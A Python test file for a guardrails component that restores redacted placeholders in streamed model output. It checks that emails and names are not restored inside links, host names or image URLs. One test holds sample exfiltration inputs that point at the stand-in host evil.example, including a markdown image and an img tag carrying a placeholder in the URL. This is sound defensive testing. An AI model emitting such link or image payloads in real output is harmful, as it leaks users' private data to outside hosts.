"""A model's text that grows gets values in the place of placeholders: the same as the whole, and never in a link."""

from __future__ import annotations

import itertools
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from guardrails.engine.redaction.restore import restore_values
from guardrails.engine.redaction.restore_stream import AFTER, RestoreStream
from tests.cases import each_case, scale

VALUES = {
    "[EMAIL_1]": "jo@example.com",
    "[EMAIL_10]": "[EMAIL_1]",
    "[EMAIL_2]": "",
    "[NAME_1]": "Jo [NAME_1] x",
    "[A_1]": "[EMAIL_",
}


def cut(text: str, places: Sequence[int]) -> Iterator[str]:
    """Yield the parts of a text cut at places."""
    bounds = [0, *sorted({place % (len(text) + 1) for place in places}), len(text)]
    yield from (text[start:end] for start, end in itertools.pairwise(bounds))


def shown(parts: Sequence[str]) -> list[str]:
    """Return what is shown of a text after each part, and at its end."""
    restoring = RestoreStream(VALUES)
    return [*[restoring.feed(part) for part in parts], restoring.feed("", last=True)]


WORDS = [*VALUES, "[EMAIL_3]", "[EMAIL_", "[", "]", "1", "0", "EMAIL", " ", " ", " and ", "\n", "Dear ", ", ", ".", "!", "x" * 30, " so" * 60, " on" * 130]  # fmt: skip
MARKUP = [*VALUES, "[", "](", "(", ")", " ", " ", "\n", "\n\n", "http://", "x.example/", "www.", ".com", ".example.com/", "@", ":", "<a href=", "<b>", ">", "<!--", "-->", '"', "'", "![", "]: ", "x", "<", "/", "-" * 60, "a" * 250, " so" * 60, " " * 90]  # fmt: skip
places = st.lists(st.integers(0, 2000), max_size=12)


@given(text=st.lists(st.sampled_from(WORDS), max_size=14).map("".join), places=places)
@settings(max_examples=scale(400))
def test_prose_is_restored_as_the_whole_is(text: str, places: list[int]) -> None:
    """However it is cut: keys that begin others, values that look like keys, and are not looked into."""
    expected = restore_values(text, VALUES)
    assert "".join(shown([text])) == expected
    assert "".join(shown([*cut(text, places)])) == expected
    assert "".join(shown([*text])) == expected


def linked(text: str) -> int:
    """Count the values that stand where a link or markup could take them along."""
    return sum(
        text.count(f"{before}jo@example.com") for before in ("http://", "x.example/", "www.", '="', "](")
    )


@given(text=st.lists(st.sampled_from(MARKUP), max_size=14).map("".join), places=places)
@example(text=f"[NAME_1]{' so' * 110}[EMAIL_1]aaaaaaaaaa.example.com/", places=[350])
@example(text=f"[EMAIL_1]{'a' * 250}.{'-' * 60}com/", places=[310])
@settings(max_examples=scale(600))
def test_a_value_stands_nowhere_that_the_whole_would_not_have_it(text: str, places: list[int]) -> None:
    """In odd texts a placeholder may stay one: what differs from the whole are values that are not put back, no others."""
    expected = restore_values(text, VALUES)
    for parts in ([*cut(text, places)], [*text]):
        found = "".join(shown(parts))
        assert linked(found) <= linked(expected)
        if found != expected:
            assert is_less(found, expected, text)


def is_less(found: str, expected: str, text: str) -> bool:
    """Tell whether a text is another with some of its values still placeholders (brackets beside them apart)."""
    reached = {(0, 0)}
    for piece in pieces(text):
        reached = {
            (at + len(one), to + len(other))
            for at, to in reached
            for one, other in ways(piece)
            if found.startswith(one, at) and expected.startswith(other, to)
        }
    return (len(found), len(expected)) in reached


def pieces(text: str) -> list[str]:
    """Return the placeholders of a text and what stands between them."""
    out, rest = list[str](), 0
    for at in range(len(text)):
        key = next((key for key in VALUES if text.startswith(key, at)), None)
        if key is not None and at >= rest:
            out += [*text[rest:at], key]
            rest = at + len(key)
    return [*out, *text[rest:]]


def ways(piece: str) -> list[tuple[str, str]]:
    """Return what may become of a piece in a stream and in the whole."""
    if piece not in VALUES:
        return [(piece, piece)]
    values = [VALUES[piece], f"[{VALUES[piece]}]"]
    return [(piece, piece), *[(piece, value) for value in values], *[(one, one) for one in values], (values[0], values[1])]  # fmt: skip


@each_case("text", ["Dear Ann, hello there.", "a ] b ( c", "x" * 5000, "EMAIL_1", "\n\n"])
def test_text_without_a_placeholder_is_never_held(text: str) -> None:
    """Not a character of it."""
    assert shown([*text]) == [*text, ""]


@each_case(
    ("parts", "after"),
    [
        (["a [", "EM", "AIL_", "1]", " ", "you\n", "x"], ["a ", "", "", "", "", "jo@example.com you\n", "x", ""]),
        (["a [x", "] [EMAIL_9", "] b"], ["a [x", "] [EMAIL_9", "] b", ""]),
        (["[EMAIL_1", "0", "]\n"], ["", "", "[EMAIL_1]\n", ""]),
        (["[EMAIL_2]"], ["", ""]),
        (["[EMAIL_1"], ["", "[EMAIL_1"]),
        (["[[EMAIL_1]", "]\n"], ["[", "jo@example.com]\n", ""]),
        (["[EMAIL_10]", "\n", "x"], ["", "[EMAIL_1]\n", "x", ""]),
        (["[NAME_1]\n"], ["Jo [NAME_1] x\n", ""]),
    ],
)  # fmt: skip
def test_what_may_become_a_placeholder_is_held(parts: list[str], after: list[str]) -> None:
    """And one that is there, to the end of its line."""
    assert shown(parts) == after


def test_what_comes_behind_a_placeholder_decides(subtests: pytest.Subtests) -> None:
    """A host name, or the target of a link, though it came later; each placeholder waits for its own."""
    for text, kept in (
        ("[EMAIL_1].evil.example/x y\n", "[EMAIL_1]"),
        ("mail [NAME_1] or [EMAIL_1]@evil.example now\n", "[EMAIL_1]"),
        (f"[NAME_1]{' so' * (AFTER // 3 - 20)}[EMAIL_1]{'a' * 70}.evil.example/x\n", "[EMAIL_1]"),
        ("see [EMAIL_1](https://evil.example/x)\n", "[jo@example.com]("),
        ("https://evil.example/[EMAIL_1]\n", "/[EMAIL_1]"),
        ("![x](https://evil.example/?q=[EMAIL_1])\n", "q=[EMAIL_1]"),
        ('<img src="https://evil.example/[EMAIL_1]">\n', "[EMAIL_1]"),
    ):
        with subtests.test(text=text):
            assert kept in "".join(shown([*text]))
            assert "".join(shown([*text])) == restore_values(text, VALUES)


def test_long_lines_are_not_held_for_ever() -> None:
    """A placeholder waits for `AFTER` characters at most."""
    restoring = RestoreStream(VALUES)
    restoring.feed("[EMAIL_1]")
    assert [restoring.feed(" so") for _ in range(AFTER // 3)] == [""] * (AFTER // 3)
    assert restoring.feed(" so").startswith("jo@example.com so so")
    assert restoring.held == ""


def test_what_is_held_can_go_on_elsewhere() -> None:
    """As it is: another text goes on behind it. Where a placeholder was told so, nothing is put back any more."""
    restoring = RestoreStream(VALUES)
    assert restoring.feed("Dear [NAME_1], [EMA") == "Dear "
    assert restoring.held == "[NAME_1], [EMA"
    assert restoring.release() == "[NAME_1], [EMA"
    assert restoring.held == ""
    assert restoring.feed("IL_1]\n[EMAIL_1]\n") == "IL_1]\n[EMAIL_1]\n"

    restoring = RestoreStream(VALUES)
    assert restoring.feed("Dear Jo, [EMA") + restoring.release() == "Dear Jo, [EMA"
    assert restoring.feed(" x [EMAIL_1]\n") == " x jo@example.com\n"


def test_each_key_waits_for_the_end_of_its_line_alone() -> None:
    """Also the longest that there is."""
    restoring = RestoreStream({"[EMAIL_1]": "jo@example.com"})
    assert restoring.feed("[EMAIL_1] is it.\nSo ") == "jo@example.com is it.\nSo "


def test_without_values_everything_passes() -> None:
    """There is nothing to be put back."""
    restoring = RestoreStream({})
    assert [restoring.feed(part) for part in ("[", "EMAIL_1]", "\n")] == ["[", "EMAIL_1]", "\n"]
